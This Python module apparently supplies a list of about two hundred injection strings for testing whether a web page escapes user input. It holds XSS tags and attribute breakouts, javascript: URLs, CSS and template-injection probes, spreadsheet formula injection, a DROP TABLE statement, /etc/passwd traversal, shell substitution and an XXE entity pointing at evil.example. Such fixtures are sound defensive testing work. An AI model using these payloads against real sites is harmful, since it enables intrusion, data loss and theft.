"""Two hundred texts that somebody might type in order to break a page, or to make it say another thing."""

TAGS = (
    "<script id=owned>alert(1)</script>",
    "<img id=owned src=x onerror=alert(1)>",
    "<svg id=owned onload=alert(1)>",
    "<iframe id=owned srcdoc='<script>alert(1)</script>'></iframe>",
    "<style id=owned>*{display:none}</style>",
    "<base id=owned href=//evil.example>",
    "<meta id=owned http-equiv=refresh content=0>",
    "<form id=owned action=//evil.example><button>",
    "<a id=owned href=javascript:alert(1)>more</a>",
    "<details id=owned open ontoggle=alert(1)>",
    "<input id=owned autofocus onfocus=alert(1)>",
    "<svg><a id=owned xlink:href=data:text/html,1><text>more</text></a></svg>",
)
# What ends the place in which the text stands, so that the tag behind it counts.
ENDS = (
    "",
    '">',
    "'>",
    "`>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    "</select>",
    "</dd></dl>",
)

IN_AN_ATTRIBUTE = (
    '" onmouseover="alert(1)" id="owned',
    "' autofocus onfocus='alert(1)' id='owned",
    "x onclick=alert(1) id=owned",
    '" style="position:fixed;inset:0;background:red" id="owned',
    '"/><x id=owned>',
    '\\"><x id=owned>',
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "java&#x73;cript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "//evil.example/%5c..",
    "https://localhost@evil.example/",
    "\\\\evil.example\\share",
)
STYLES = (
    "}body{display:none}",
    "red;background:url(//evil.example/x)",
    "expression(alert(1))",
    "</style><x id=owned>{}*{color:red}",
    "@import '//evil.example/x.css';",
)
TEMPLATES = (
    "{{ 31337*3 }}",
    "{% debug %}{% include 'admin/index.html' %}",
    "{# gone #}",
    "${31337*3}",
    "#{31337*3}",
    "<%= 31337*3 %>",
    "{0.__class__.__init__.__globals__}",
    "{who} {coffee} {other}",
    "%(number)s %s %n %d",
    "{{constructor.constructor('alert(1)')()}}",
)
LETTERS = (
    "&lt;script id=owned&gt;alert(1)&lt;/script&gt;",
    "&#60;x id=owned&#62;",
    "\uff1cscript id=owned\uff1ealert(1)\uff1c/script\uff1e",
    "قهوة من يرغاتشيف",
    "קפה מירושלים",
    "👩🏾\u200d🌾 👨\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈",
    "Z̷̛̰̈a̸̩͝l̵̺̾g̶̫̈o̷̙͐",
    "zero\u200bwidth\u200bspace",
    "W" * 50,
    "ﷺﷺﷺﷺﷺﷺﷺﷺ",
    "null",
    "\\u0000\\x00%00",
    "a\\b\\nc",
)
FORMULAS = (
    '=HYPERLINK("//evil.example","more")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
)
COMMANDS = (
    "'; DROP TABLE trail_event; --",
    "../../../../etc/passwd",
    "$(id) `id` | id",
    "<!--#exec cmd='id' -->",
    "<?xml version='1.0'?><!DOCTYPE x SYSTEM '//evil.example'>",
    "Set-Cookie: owned=1",
    "<![CDATA[<x id=owned>]]>",
    "*_[more](javascript:alert(1))_*",
)  # fmt: skip

PAYLOADS = (
    *(end + tag for end in ENDS for tag in TAGS),
    *(IN_AN_ATTRIBUTE + ADDRESSES + STYLES + TEMPLATES + LETTERS + FORMULAS + COMMANDS),
)
